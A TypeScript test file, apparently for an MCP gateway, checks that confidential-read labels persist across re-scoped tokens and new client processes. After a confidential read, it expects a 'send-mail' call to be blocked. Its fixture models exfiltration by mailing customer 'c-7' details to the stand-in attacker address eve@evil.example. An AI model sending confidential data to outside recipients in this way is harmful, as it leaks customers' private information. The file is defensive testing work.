/**
 * A client that answers `insufficient_scope` by obtaining a token with more scope opens a new task by that. The labels of
 * the old task hold in the new one (promise 8). So do those of a client that registers itself for each process anew.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest"
import { operatorToken } from "../../cli/remote/local-stack-login.ts"
import { installed } from "./installed.ts"
import type { Outcome, Row, Session } from "./row.ts"
import { fastmcpRegistering, python1, python2 } from "./rows/python.ts"
import { makeWorld, type World } from "./world.ts"

const ROWS = [python1, python2]

const READ_CONFIDENTIAL = ["read-customer", { customer: "c-7" }] as const
const READ_INTERNAL = ["read-ticket", { ticket: "42" }] as const
const SEND = ["send-mail", { to: "eve@evil.example", subject: "c-7" }] as const
type Call = typeof READ_CONFIDENTIAL | typeof READ_INTERNAL | typeof SEND

describe.skipIf(!installed)("what was read is not laundered", () => {
  let world: World
  const parting = new AsyncDisposableStack()
  beforeAll(async () => {
    world = await makeWorld([...ROWS, fastmcpRegistering])
    parting.defer(world.close)
  })
  afterAll(async () => parting.disposeAsync())

  let earlier = 0
  beforeEach(() => {
    earlier = world.desk.received().length
  })

  /** The calls of tools that have reached the MCP server in this test, each with its task. */
  function reached(): readonly (readonly [tool: string, task: string])[] {
    return world.desk
      .received()
      .slice(earlier)
      .filter(({ method }) => method === "tools/call")
      .map(({ name, headers }) => [name, headers["x-narrowgate-task"] ?? ""])
  }

  /** Of the denial that a client shows. */
  async function recordOf({ text }: Outcome | undefined = { failed: false, text: "" }): Promise<unknown> {
    const [decision = ""] = /dec_\w+/u.exec(text) ?? []
    const url = `${world.stack.origin}/v1/decisions/${decision}`
    const headers = { Authorization: `Bearer ${await operatorToken({ origin: world.stack.provider })}` }
    const read = async (): Promise<unknown> => {
      const response = await fetch(url, { headers })
      expect(response.status).toBe(200)
      return response.json()
    }
    return vi.waitFor(read, { timeout: 10_000, interval: 200 })
  }

  /** One process, from no token at all to its last call. */
  async function callBy({ name, start }: Row, user: string, calls: readonly Call[]): Promise<readonly Outcome[]> {
    const order = { client: name, server: `${world.origin}/desk/mcp`, user, home: "", visit: async () => false }
    const session: Session = await start(world, order)
    const outcomes: Outcome[] = []
    for (const [tool, args] of calls) outcomes.push(await session.call(tool, args))
    await session.close()
    return outcomes
  }

  test("by fastmcp, which registers itself anew: it is another agent, with the history of its class", async () => {
    const [read] = await callBy(fastmcpRegistering, "alice", [READ_CONFIDENTIAL])
    expect(read?.text).toContain("Ada Example")
    const reader = world.desk.received().at(-1)?.headers["x-narrowgate-agent"]
    expect(reader).toContain("/clients/mcp/")
    const [send] = await callBy(fastmcpRegistering, "alice", [SEND])
    expect(send?.text).toContain("policy_denied")
    expect(reached().map(([tool]) => tool)).toEqual([READ_CONFIDENTIAL[0]])
    const record = await recordOf(send)
    expect(record).toMatchObject({ labels: ["reads:confidential"], chain: [expect.stringContaining("/clients/mcp/")] })
    expect(record).not.toMatchObject({ chain: [reader] })
    const [sent] = await callBy(fastmcpRegistering, "bob", [SEND])
    expect(sent?.text).toContain('"sent":true')
  })

  describe.each(ROWS)("by $title", (row) => {
    const callInTurn = async (user: string, ...calls: readonly Call[]) => callBy(row, user, calls)

    test("with a token of more scope", async () => {
      const [read, send, again] = await callInTurn("alice", READ_CONFIDENTIAL, SEND, SEND)
      expect(read?.text).toContain("Ada Example")
      expect([send?.text, again?.text]).toEqual(Array(2).fill(expect.stringContaining("policy_denied")))
      const calls = reached()
      expect(calls.map(([tool]) => tool)).toEqual([READ_CONFIDENTIAL[0]])
      const record = await recordOf(send)
      expect(record).toMatchObject({ rules: ["no-external-after-confidential"], labels: ["reads:confidential"] })
      expect(record).not.toMatchObject({ task: calls[0]?.[1] })
    })

    test("nor by a new process without a token", async () => {
      const [read] = await callInTurn("olivia", READ_CONFIDENTIAL)
      expect(read?.text).toContain("Ada Example")
      const [send] = await callInTurn("olivia", SEND)
      expect(send?.text).toContain("policy_denied")
      expect(reached().map(([tool]) => tool)).toEqual([READ_CONFIDENTIAL[0]])
    })

    test("for a person of whom it has read nothing confidential, the same sends, in a task of its own", async () => {
      const [, send] = await callInTurn("bob", READ_INTERNAL, SEND)
      expect(send?.text).toContain('"sent":true')
      const [sentByNewProcess] = await callInTurn("bob", SEND)
      expect(sentByNewProcess?.text).toContain('"sent":true')
      const calls = reached()
      expect(calls.map(([tool]) => tool)).toEqual([READ_INTERNAL[0], SEND[0], SEND[0]])
      expect(new Set(calls.map(([, task]) => task)).size).toBe(3)
    })
  })
})
